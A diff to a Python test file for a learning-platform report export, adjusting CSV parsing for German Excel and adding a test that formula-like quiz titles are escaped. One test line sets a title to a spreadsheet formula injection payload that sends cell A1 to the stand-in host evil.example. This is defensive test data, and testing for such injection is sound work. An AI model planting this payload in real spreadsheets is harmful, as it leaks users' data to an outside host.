@@ -65,8 +65,9 @@ def quiz(world):
 
 
 def _csv(response):
-    text = b"".join(response.streaming_content).decode("utf-8")
-    return list(csv.reader(io.StringIO(text)))
+    # German Excel: UTF-8 with BOM, semicolons (lms.exports).
+    text = b"".join(response.streaming_content).decode("utf-8-sig")
+    return list(csv.reader(io.StringIO(text), delimiter=";"))
 
 
 def _xlsx(response):
@@ -224,3 +225,14 @@ def test_attempts_of_unknown_course_are_listed_apart(manager_client, world, quiz
         ("Berufsrückkehr begleiten", 4),
         ("Kurs nicht bekannt", 1),
     ]
+
+
+def test_export_neutralises_formulas_in_titles_and_writes_german_numbers(manager_client, quiz):
+    # Titles are typed by trainers; a title starting with "=" must not run as a formula.
+    quiz.title = '=HYPERLINK("http://evil.example/?"&A1,"x")'
+    quiz.save()
+    rows = _csv(manager_client.get(reverse(REPORT), {"export": "csv"}))
+    assert rows[1][2] == "'" + quiz.title
+    assert rows[1][-1] == "1,5"  # average attempts to pass: ob[0] needed 2, ob[1] 1
+    sheet = _xlsx(manager_client.get(reverse(REPORT), {"export": "xlsx"}))
+    assert sheet[1][2] == quiz.title
